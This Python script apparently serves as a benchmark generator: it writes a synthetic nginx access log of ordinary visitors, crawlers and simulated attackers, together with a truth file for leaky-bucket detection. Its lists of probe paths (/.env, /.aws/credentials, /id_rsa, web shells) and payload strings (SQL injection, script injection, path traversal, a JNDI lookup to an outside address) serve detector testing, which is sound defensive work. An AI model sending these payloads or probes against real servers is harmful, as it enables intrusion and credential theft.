#!/usr/bin/env python3
"""Write a realistic nginx access log and the truth about it.

    bench/nginx_log.py --lines 1000000 --out access.log --truth truth.json

Needs Python 3.9 or newer and nothing else (apt-get install python3). The same arguments
always give the same two files, byte for byte.

The log is in nginx's "combined" format, in order of time: people who read pages with their
pictures and scripts, search engines, a program that speaks to an API, uptime checks, and by
default 20 % hostile lines from 2,000 attackers.

Styles of attackers
  probe     asks for page after page that is not there, every 0.1 to 1.5 seconds
  brute     posts passwords to a login page that answers 401, every 0.3 to 3 seconds
  wordlist  asks for backups, admin pages and known holes, from a list
  payload   SQL, script and path traversal in arguments and paths
  tool      names itself: a scanner's user agent
  raw       TLS, RDP or nothing at all on the plain port: lines without a request
  slow      one missing page every 5 to 20 minutes: below every threshold
  oneoff    one missing page, never seen again

Truth
  Two leaky buckets for each address: "probe" counts distinct missing pages (404, 403 or 400, no
  picture, script or style sheet) with capacity 10 and leak 10 s; "brute" counts POST lines
  answered with 401 with capacity 5 and leak 10 s. A bucket that runs over says "yes"; slow and
  oneoff attackers say "no"; all others "either": whether they are caught depends on lists.
"""

import argparse
import datetime
import ipaddress
import json
import random

STYLES = {"probe": 0.25, "brute": 0.15, "wordlist": 0.12, "payload": 0.08, "tool": 0.05,
          "raw": 0.05, "slow": 0.10, "oneoff": 0.20}
PAGES = [f"/{a}/{b}-{n}" for a in ("shop", "blog", "docs", "news") for b in
         ("red", "winter", "guide", "answer", "release", "offer") for n in range(1, 60)]
ASSETS = ["/assets/app.3f9c.js", "/assets/site.77ab.css", "/assets/vendor.09ef.js",
          "/fonts/text.woff2", "/img/logo.svg", "/favicon.ico", "/assets/print.css"]
PICTURES = [f"/img/{n:04d}.{e}" for n in range(900) for e in ("jpg", "webp", "png")]
BROWSERS = (
    ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     f"Chrome/{v}.0.0.0 Safari/537.36" for v in range(108, 126)]
    + [f"Mozilla/5.0 (X11; Linux x86_64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0"
       for v in range(102, 127)]
    + ["Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
       f"Version/{v} Safari/605.1.15" for v in ("15.6", "16.1", "16.5", "17.0", "17.4")]
    + [f"Mozilla/5.0 (iPhone; CPU iPhone OS {v} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
       f"Gecko) Version/{v[:2]}.0 Mobile/15E148 Safari/604.1" for v in ("15_7", "16_5", "17_2")]
    + [f"Mozilla/5.0 (Linux; Android {a}; {m}) AppleWebKit/537.36 (KHTML, like Gecko) "
       f"Chrome/{v}.0.0.0 Mobile Safari/537.36" for a in (11, 12, 13, 14)
       for m in ("Pixel 6", "SM-G991B", "K") for v in (112, 118, 121, 124)]
)
CRAWLERS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "Mozilla/5.0 (Applebot/0.1; +http://www.apple.com/go/applebot)",
    "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
]
TOOLS = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Test:Port)",
         "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Nmap Scripting Engine",
         "WPScan v3.8.22 (https://wpscan.com)", "Nuclei - Open-source project"]
SCRIPTS = ["python-requests/2.28.1", "Go-http-client/1.1", "curl/7.88.1", "-",
           "Mozilla/5.0", "Mozilla/5.0 (compatible; CensysInspect/1.1)"] + BROWSERS[:12]
LISTED = """/.git/config /.env /.env.bak /backup.sql /dump.sql.gz /db.sqlite3 /wp-login.php
/wp-content/plugins/x/readme.txt /phpmyadmin/index.php /pma/ /admin/config.php /manager/html
/cgi-bin/luci /boaform/admin/formLogin /actuator/health /solr/admin/info/system /.aws/credentials
/server-status /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /1.php /shell.php /c99.php
/owa/auth/logon.aspx /autodiscover/autodiscover.json /.DS_Store /.htpasswd /id_rsa
/config.json.bak /debug/default/view /telescope/requests /api/jsonws/invoke /HNAP1/
/_ignition/execute-solution /geoserver/web/ /remote/login /global-protect/login.esp
/cgi-bin/nas_sharing.cgi /xmlrpc.php /wlwmanifest.xml /site.tar.gz /www.zip""".split()
PAYLOADS = """/shop/red-1?id=1%20union%20select%20null,null /shop/red-2?id=1'%20or%20'1'='1
/docs/guide-3?q=<script>alert(1)</script> /docs/guide-4?q=%3Cscript%3Ealert(1)%3C/script%3E
/../../../../etc/passwd /cgi-bin/.%2e/.%2e/.%2e/etc/passwd /static/..%2f..%2f..%2fetc/passwd
/blog/offer-1?x=${jndi:ldap://203.0.113.9/a} /index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction
/news/answer-2?u=information_schema.tables /news/answer-9?f=....//....//boot.ini""".split()
WORDS = ("old test new backup admin login user data api v1 v2 config setup install portal private "
         "panel cms shop2 beta dev stage tmp upload file download report export account").split()
RAW = [r"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03", r"\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00",
       "", "MGLNDD_198.51.100.7_80", r"\x00", "SSH-2.0-Go"]
STATIC = (".js", ".css", ".jpg", ".webp", ".png", ".ico", ".svg", ".woff2")


class Log:
    """Collects rows, and for each address what the two buckets of the truth count."""

    def __init__(self, rng):
        self.rng, self.rows, self.probes, self.guesses = rng, [], {}, {}

    def add(self, at, address, request, status, size, referer="-", agent="-", user="-"):
        row = (at, len(self.rows), address, user, request, status, size, referer, agent)
        self.rows.append(row)

    def count(self, at, address, request, status):
        words = request.split(" ")
        path = words[1] if len(words) == 3 else request
        if status in (400, 403, 404) and not path.split("?")[0].endswith(STATIC):
            self.probes.setdefault(address, []).append((at, path))
        if status == 401 and words[0] == "POST":
            self.guesses.setdefault(address, []).append((at, at))


class Addresses:
    """Distinct addresses from the public unicast space; one in eight speaks IPv6."""

    def __init__(self, rng):
        self.rng, self.seen = rng, set()

    def take(self):
        while True:
            if self.rng.random() < 0.125:
                address = ipaddress.IPv6Address((0x2A << 120) | self.rng.getrandbits(56) << 64
                                                | self.rng.getrandbits(20))
            else:
                address = ipaddress.IPv4Address(self.rng.randrange(1 << 24, 224 << 24))
            if address not in self.seen and address.is_global:
                self.seen.add(address)
                return str(address)


def visit(log, at, address, agent):
    """One page or more, with what belongs to it."""
    rng, page = log.rng, rng_search(log.rng)
    referer = rng.choice(["-", "https://www.google.com/", "https://duckduckgo.com/"])
    for number in range(1 + int(rng.expovariate(0.5))):
        query = rng.choice(["", "", "", f"?page={rng.randrange(9)}", "?utm_source=letter"])
        log.add(at, address, f"GET {page}{query} HTTP/1.1", 200, rng.randrange(4000, 60000),
                referer, agent)
        referer, moment = f"https://www.example.com{page}", at + 0.2
        wanted = ASSETS if number == 0 else []
        for path in wanted + rng.sample(PICTURES, rng.randrange(1, 7)):
            moment += rng.uniform(0.0, 0.2)
            status = 304 if rng.random() < 0.2 else 200
            log.add(moment, address, f"GET {path} HTTP/1.1", status, rng.randrange(300, 90000),
                    referer, agent)
        at, page = at + rng.uniform(4, 90), rng.choice(PAGES)
        if rng.random() < 0.01:
            log.add(at, address, f"GET {page}x HTTP/1.1", 404, 153, referer, agent)
        if rng.random() < 0.02:
            log.add(at + 2, address, "POST /login HTTP/1.1", rng.choice([302, 302, 302, 401]), 0,
                    "https://www.example.com/login", agent)


def rng_search(rng):
    return rng.choice(PAGES) if rng.random() < 0.8 else f"/search?q={rng.choice(WORDS)}"


def daily_work(log, wanted, span, people):
    rng, end = log.rng, len(log.rows) + wanted
    robots = [(address, rng.choice(CRAWLERS)) for address in people[: max(2, len(people) // 200)]]
    others = people[len(robots):]
    watch, api = others[0], others[1]
    for minute in range(int(span // 60)):
        if len(log.rows) > end - wanted // 2:
            break
        log.add(minute * 60 + 3, watch, "HEAD /health HTTP/1.1", 200, 0, "-", "uptime-check/2.4")
        log.add(minute * 60 + rng.uniform(5, 55), api, f"POST /api/v2/orders/{minute} HTTP/2.0",
                rng.choice([200, 200, 201]), rng.randrange(80, 900), "-", "orders-sync/1.9", "sync")
    agents = {address: rng.choice(BROWSERS) for address in others}
    while len(log.rows) < end:
        if rng.random() < 0.3:
            address, agent = rng.choice(robots)
            at = rng.uniform(0, span - 300)
            for _ in range(rng.randrange(1, 8)):
                path = "/robots.txt" if rng.random() < 0.05 else rng.choice(PAGES)
                log.add(at, address, f"GET {path} HTTP/1.1", 200, rng.randrange(2000, 60000), "-",
                        agent)
                at += rng.uniform(8, 30)
        else:
            address = rng.choice(others)
            visit(log, rng.uniform(0, span - 600), address, agents[address])
    del log.rows[end:]


def missing(rng):
    path = "/".join(rng.choices(WORDS, k=rng.randrange(1, 4)))
    return f"/{path}{rng.randrange(99999)}{rng.choice(['', '/', '.php', '.html', '.asp'])}"


def attack(log, style, address, start, count):
    rng, at, agent = log.rng, start, log.rng.choice(SCRIPTS)
    order = rng.sample(LISTED, len(LISTED))
    for number in range(count):
        if style == "brute":
            log.add(at, address, "POST /login HTTP/1.1", 401, 612, "-", agent)
            at += rng.uniform(0.3, 3.0)
        elif style == "wordlist":
            path = order[number % len(order)]
            log.add(at, address, f"GET {path} HTTP/1.1", rng.choice([404, 404, 404, 403]), 153, "-",
                    agent)
            at += rng.uniform(0.1, 1.0)
        elif style == "payload":
            status = rng.choice([200, 400, 404])
            log.add(at, address, f"GET {rng.choice(PAYLOADS)} HTTP/1.1", status,
                    rng.randrange(100, 5000), "-", agent)
            at += rng.uniform(0.2, 2.0)
        elif style == "tool":
            tool = TOOLS[int(start) % len(TOOLS)]
            log.add(at, address, f"GET {missing(rng)} HTTP/1.1", 404, 153, "-", tool)
            at += rng.uniform(0.05, 0.5)
        elif style == "raw":
            log.add(at, address, rng.choice(RAW), 400, 157)
            at += rng.uniform(5.0, 60.0)
        else:
            log.add(at, address, f"GET {missing(rng)} HTTP/1.1", 404, 153, "-", agent)
            at += {"slow": rng.uniform(300, 1200)}.get(style, rng.uniform(0.1, 1.5))


def hostile(log, styles, wanted, span):
    plan = {"raw": (1, 6), "slow": (3, 12), "oneoff": (1, 1), "payload": (4, 60), "tool": (20, 200),
            "wordlist": (10, 41), "brute": (10, 120)}
    for address, style in styles.items():
        if style in plan:
            count = log.rng.randint(*plan[style])
            room = {"slow": 15000.0, "raw": 400.0}.get(style, 500.0)
            attack(log, style, address, log.rng.uniform(0, max(1.0, span - room)), count)
    probes = [address for address, style in styles.items() if style == "probe"]
    share = max(14, (wanted - len(log.rows)) // max(1, len(probes)))
    for address in probes:
        count = min(share, int(span * 0.8))
        attack(log, "probe", address, log.rng.uniform(0, max(1.0, span - count)), count)


def crosses(times, capacity, leak):
    """When a bucket over distinct values runs over; None when it never does."""
    level, last, known = 0.0, None, set()
    for at, value in times:
        if value in known:
            continue
        if last is not None:
            level = max(0.0, level - (at - last) / leak)
            if level == 0.0:
                known.clear()
        last = at
        known.add(value)
        if level + 1 > capacity:
            return at
        level += 1
    return None


def judge(log, style, address, start):
    marks = [crosses(log.probes.get(address, []), 10, 10.0),
             crosses(log.guesses.get(address, []), 5, 10.0)]
    at = min((mark for mark in marks if mark is not None), default=None)
    when = None if at is None else (start + datetime.timedelta(seconds=at)).isoformat()
    if at is None:
        return {"style": style, "crosses": "no" if style in ("slow", "oneoff") else "either",
                "crosses_at": None}
    return {"style": style, "crosses": "yes", "crosses_at": when}


def write(log, path, start, end):
    log.rows.sort()
    with open(path, "w", encoding="ascii") as out:
        second, stamp = None, ""
        for at, _, address, user, request, status, size, referer, agent in log.rows:
            at = int(min(max(at, 0.0), end))
            if at != second:
                second = at
                stamp = (start + datetime.timedelta(seconds=at)).strftime("%d/%b/%Y:%H:%M:%S")
            out.write(f'{address} - {user} [{stamp} +0000] "{request}" {status} {size} '
                      f'"{referer}" "{agent}"\n')
            log.count(float(at), address, request, status)


def arguments():
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--lines", type=int, default=1_000_000)
    parser.add_argument("--attackers", type=int, help="default: 2000, or lines/500 if fewer")
    parser.add_argument("--hostile-share", type=float, default=0.20)
    parser.add_argument("--hours", type=float, default=24.0)
    parser.add_argument("--start", default="2026-03-02T00:00:00", help="UTC, ISO 8601")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--out", default="access.log")
    parser.add_argument("--truth", default="truth.json")
    options = parser.parse_args()
    if options.lines < 5000 or options.hours < 6:
        parser.error("needs at least 5000 lines and 6 hours")
    return options


def main():
    options = arguments()
    rng = random.Random(options.seed)
    log, take, span = Log(rng), Addresses(rng).take, options.hours * 3600
    count = options.attackers or min(2000, options.lines // 500)
    styles = {take(): style for style in rng.choices(list(STYLES), STYLES.values(), k=count)}
    people = [take() for _ in range(max(50, min(20000, options.lines // 50)))]
    hostile(log, styles, int(options.lines * options.hostile_share), span)
    del log.rows[options.lines // 2:]
    attacks = len(log.rows)
    daily_work(log, options.lines - attacks, span, people)
    start = datetime.datetime.fromisoformat(options.start)
    write(log, options.out, start, span - 1)
    truth = {
        "lines": len(log.rows), "hostile_lines": attacks, "seed": options.seed,
        "format": "combined", "start": options.start,
        "attackers": {a: judge(log, style, a, start) for a, style in styles.items()},
        "benign": people,
    }
    with open(options.truth, "w", encoding="ascii") as out:
        json.dump(truth, out, indent=1)
        out.write("\n")


if __name__ == "__main__":
    main()
